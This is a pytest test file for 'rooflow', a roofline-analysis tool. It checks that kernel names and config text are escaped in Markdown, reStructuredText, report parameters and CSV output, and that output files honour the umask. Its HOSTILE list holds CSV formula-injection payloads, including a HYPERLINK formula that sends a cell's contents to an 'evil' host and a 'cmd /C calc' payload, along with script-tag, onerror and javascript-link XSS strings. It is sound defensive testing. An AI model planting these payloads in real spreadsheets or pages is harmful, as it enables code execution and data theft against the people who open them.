"""Hostile names and config text in every sink rooflow writes (issue 20, item 5), and the
mode of its outputs (item 6): Markdown (summary.md), reStructuredText (report captions), the
report's params, CSV cells a spreadsheet would run, file modes under the umask."""

from __future__ import annotations

import html
import os
import re
import stat

import polars as pl
import pytest
from docutils.core import publish_parts
from hypothesis import given
from hypothesis import strategies as st

from rooflow.escape import (
    from_report_param,
    markdown_cell,
    neutralize_csv,
    report_param,
    restore_csv,
    rst_text,
    terminal_text,
)
from rooflow.io import atomic_path, current_umask, write_csv, write_parquet

HOSTILE = [
    "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a|b\nc",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "**bold** _em_ `code` ~~gone~~",
    "main_$ck_L12_$",
]


# Markdown (summary.md) --------------------------------------------------------------------


def test_markdown_cell_keeps_ordinary_names_readable():
    for name in ("mem_copy", "GEMM 64×64", "ncu-a", "flash_attention_fwd", "a.v2", "fp64-only"):
        assert markdown_cell(name) == name


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_cell_is_one_cell_of_literal_text(name):
    cell = markdown_cell(name)
    assert "\n" not in cell and "\r" not in cell
    assert "<" not in cell and ">" not in cell  # no tag, no comment
    assert not re.search(r"(?<!\\)\|", cell)  # every | escaped: no cell break
    assert not re.search(r"(?<!\\)[`*\[\]~]", cell)  # no code span, emphasis, link, strike


def test_markdown_cell_examples():
    assert markdown_cell("a|b\nc") == r"a\|b c"
    assert markdown_cell("<b>x</b> & y") == "&lt;b&gt;x&lt;/b&gt; &amp; y"
    assert markdown_cell("_em_ mem_copy *x*") == r"\_em\_ mem_copy \*x\*"
    assert markdown_cell("[a](javascript:x)") == r"\[a\](javascript:x)"


@given(st.text(max_size=40))
def test_markdown_cell_reads_back_as_the_text_it_was_given(text):
    # What a Markdown renderer shows: backslash escapes and entities resolved. Nothing else
    # is left that GFM would turn into an element or a cell break.
    cell = markdown_cell(text)
    assert "\n" not in cell and "<" not in cell and not re.search(r"(?<!\\)\|", cell)
    # Control characters (ESC, NUL) read back as their escapes: a terminal showing
    # summary.md runs none (issue 32).
    assert html.unescape(re.sub(r"\\(.)", r"\1", cell)) == terminal_text(" ".join(text.split()))


# reStructuredText (report captions) -------------------------------------------------------


@pytest.mark.parametrize("text", [
    "javascript:alert(1)", "https://x.org/a", "<script>alert(1)</script>", "`x`_", "*b*",
    "|sub|", "[1]_", "a@b.com", "x\n\n.. raw:: html\n\n   <script>alert(1)</script>",
    "x\n\n.. image:: javascript:alert(1)", ":code:`x`", "__init__", "\\"])
def test_rst_text_renders_as_plain_text_without_links_or_markup(text):
    body = publish_parts(f"Roofs ({rst_text(text)}).", writer="html")["body"]
    assert body.count("<") == body.count("</p>") + body.count("<p>"), body  # only <p>
    inner = html.unescape(re.fullmatch(r"<p>Roofs \((.*)\)\.</p>\n", body, re.S).group(1))
    assert inner == " ".join(text.split())


def test_rst_text_is_safe_inside_a_script_block():
    text = rst_text("</script><script>alert(1)</script><!-- x")
    assert "</" not in text and "<!" not in text


# Report params ----------------------------------------------------------------------------


def test_report_params_hold_no_markup_and_round_trip():
    value = {"title": "</script><script>alert(1)</script>", "series_order": ["<a>", "&lt;"],
             "top_n": 5, "select": {"kernel": ["a<b"]}, "key": True}
    escaped = report_param(value)
    assert "<" not in repr(escaped) and ">" not in repr(escaped)
    assert from_report_param(escaped) == value


@given(st.recursive(st.text() | st.integers() | st.booleans() | st.none(),
                    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
                    max_leaves=10))
def test_report_param_is_one_to_one(value):
    assert from_report_param(report_param(value)) == value


# CSV injection ----------------------------------------------------------------------------


def test_formula_cells_are_neutralized_numbers_are_not(tmp_path):
    frame = pl.DataFrame({"kernel": HOSTILE[:6] + ["-5", "+1e3", "-inf", "plain", "'=x", None],
                          "value": [-1.0] * 12})
    out = tmp_path / "t.csv"
    write_csv(frame, out)
    back = pl.read_csv(out)
    for cell in back["kernel"].drop_nulls():  # a formula start only on a number
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell in (
            "-5", "+1e3", "-inf"), cell
    assert back["kernel"].to_list()[6:] == ["-5", "+1e3", "-inf", "plain", "''=x", None]
    assert back["value"].to_list() == [-1.0] * 12  # numeric columns untouched
    assert restore_csv(back).equals(frame)


def test_categorical_text_is_neutralized_too(capsys):
    frame = pl.DataFrame({"level": ["=DRAM", "L2"]}, schema={"level": pl.Categorical})
    write_csv(frame, None)  # stdout is a sink as well
    assert capsys.readouterr().out == "level\n'=DRAM\nL2\n"


@given(st.lists(st.text(max_size=12) | st.none(), max_size=8))
def test_neutralize_then_restore_is_the_identity(cells):
    frame = pl.DataFrame({"name": cells}, schema={"name": pl.String})
    guarded = neutralize_csv(frame)
    for cell in guarded["name"].drop_nulls():
        risky = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        if risky:  # only a number may start so
            float(cell.strip())
    assert restore_csv(guarded).equals(frame)


def test_tables_and_canonical_points_read_back_unchanged(tmp_path):
    from rooflow.adapters.roofline import read_roofline_csv
    from rooflow.points import to_points

    pts = to_points(pl.DataFrame({
        "series": ["=run"], "kernel": ["-O3 =SUM(A1)"], "label": ["@x"], "level": ["DRAM"],
        "flop": [1e9], "bytes": [1e8], "time_s": [1e-3], "arithmetic_intensity": [10.0],
        "performance": [1e12], "source": ["t.csv"], "row": [1]}))
    out = tmp_path / "points.csv"
    write_csv(pts, out)
    assert "\n'=run," in out.read_text()
    assert read_roofline_csv(out).drop("source").equals(pts.drop("source"))


# File modes (umask) -----------------------------------------------------------------------


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_current_umask_reads_without_changing(umask_022):
    assert current_umask() == 0o022
    assert current_umask() == 0o022


@pytest.mark.parametrize("mask, mode", [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_outputs_honour_the_umask(tmp_path, mask, mode):
    old = os.umask(mask)
    try:
        write_csv(pl.DataFrame({"a": [1]}), tmp_path / "t.csv")
        write_parquet(pl.DataFrame({"a": [1]}), tmp_path / "p.parquet")
        with atomic_path(tmp_path / "s.md") as tmp:
            tmp.write_text("x")
    finally:
        os.umask(old)
    for name in ("t.csv", "p.parquet", "s.md"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == mode, name


def test_plots_and_pages_are_0644_under_umask_022(tmp_path, umask_022):
    from rooflow.analysis import analyze
    from rooflow.html.page import roofline_page
    from rooflow.plotting import plot_roofline
    from rooflow.points import to_points
    from rooflow.roofs import load_preset

    preset = load_preset("h100-sxm")
    table = analyze(to_points(pl.DataFrame({
        "kernel": ["k"], "flop": [1e9], "bytes": [1e8], "time_s": [1e-3],
        "arithmetic_intensity": [10.0], "performance": [1e12], "precision": ["fp32"]})), preset)
    plot_roofline(table, preset, tmp_path / "p.png")
    roofline_page(table, preset, tmp_path / "p.html", title="t")
    for name in ("p.png", "p.html"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o644, name


# summary.md -------------------------------------------------------------------------------


def _summary_row(kernel: str, **over) -> dict:
    row = {
        "dataset": "ncu-a", "source": "a.csv", "row": 1, "kernel": kernel, "series": "Measured",
        "pair": None, "label": None, "level": "DRAM", "precision": "fp32",
        "compute_roof_name": "fp32", "unit": "FLOP", "bandwidth_only": False,
        "theoretical": False, "binding": True, "above_roof": False, "kernel_bound": "DRAM",
        "performance": 5e13, "attainable": 1e14, "achieved_bandwidth": None,
        "memory_roof": None, "pct_of_roof": 50.0, "pct_of_memory_roof": None,
        "kernel_headroom": 2.0, "time_s": 1e-3, "potential_time_saved_s": 5e-4,
        "pair_speedup": None,
    }
    return {**row, **over}


def _outside_code(text: str) -> str:
    """``text`` without its code spans (a run of n backticks to the next run of n)."""
    return re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", text)


def test_summary_tables_keep_their_shape_whatever_the_names():
    from rooflow.summary import summary_markdown

    rows = [_summary_row(name, row=i, series=name, potential_time_saved_s=1e-3 / (i + 1))
            for i, name in enumerate(HOSTILE)]
    rows.append(_summary_row("above", row=99, above_roof=True, series="a|b", pct_of_roof=120.0))
    table = pl.DataFrame(rows, infer_schema_length=None)
    text = summary_markdown({"h100-sxm": table},
                            failed={"roofline-bad": "rooflow: error: bad.csv, row 1: a|b <b>"},
                            skipped=["skipped 'resources/roofline/<x>|.csv': a file name …"])
    # No HTML outside code spans (where GFM shows text as written), and no entity to read.
    assert "<" not in _outside_code(text) and "&lt;" not in text
    table_lines = [line for line in text.splitlines() if line.startswith("|")]
    cells = {len(re.findall(r"(?<!\\)\|", line)) for line in table_lines}
    # every row of a table has its header's cell count: 3 (not built), 7 (above the
    # roof) or 12 (ranked) separators
    assert cells == {3, 7, 12}, cells
    assert "| roofline-bad | `rooflow: error: bad.csv, row 1: a\\|b <b>` |" in text
    heads = ["## Datasets not built", "## Input files skipped", "## Points above the roof",
             "## h100-sxm"]
    assert sorted(heads, key=text.index) == heads
    assert "- `skipped 'resources/roofline/<x>|.csv': a file name …`" in text


def test_summary_without_failures_has_no_such_section():
    from rooflow.summary import summary_markdown

    text = summary_markdown({"h100-sxm": pl.DataFrame([_summary_row("k")])})
    assert "not built" not in text and "skipped" not in text
